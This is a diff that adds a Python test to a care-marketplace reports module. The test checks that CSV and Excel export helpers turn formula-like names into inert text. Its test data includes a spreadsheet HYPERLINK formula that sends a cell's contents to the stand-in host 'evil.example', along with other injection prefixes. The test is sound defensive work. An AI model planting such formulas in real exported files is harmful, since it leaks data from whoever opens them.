@@ -349,3 +349,26 @@ def test_a_claimed_firing_is_not_run_again(sample_db):
     assert R.run_report(sample_db, "Once", "schedule", firing) is None
     assert R.claim_run(sample_db, "Once", R.stamp(firing), "schedule", R.stamp(firing)) is None
     assert R.list_runs(sample_db, "Once")["total"] == 1
+
+
+def test_names_that_look_like_formulas_are_inert_in_csv_and_xlsx():
+    import csv
+    import io
+
+    import openpyxl
+
+    from caremarket.reports import _text, _xl
+
+    evil = '=HYPERLINK("http://evil.example/?x="&B2,"Oak")'
+    assert _text(evil) == "'" + evil and _xl(evil) == "'" + evil
+    for s in ("+1", "-cmd", "@SUM(A1)", "\tx"):
+        assert _text(s).startswith("'")
+    assert _text(-5.0) == "-5.0" and _xl(-5.0) == -5.0  # numbers stay numbers
+    assert _text("Oak House") == "Oak House"
+    wb = openpyxl.Workbook()
+    wb.active.append([_xl(evil)])
+    buf = io.BytesIO()
+    wb.save(buf)
+    cell = openpyxl.load_workbook(io.BytesIO(buf.getvalue())).active["A1"]
+    assert cell.data_type == "s"  # text, not a formula
+    assert next(csv.reader([_text(evil)]))[0].startswith("'=")
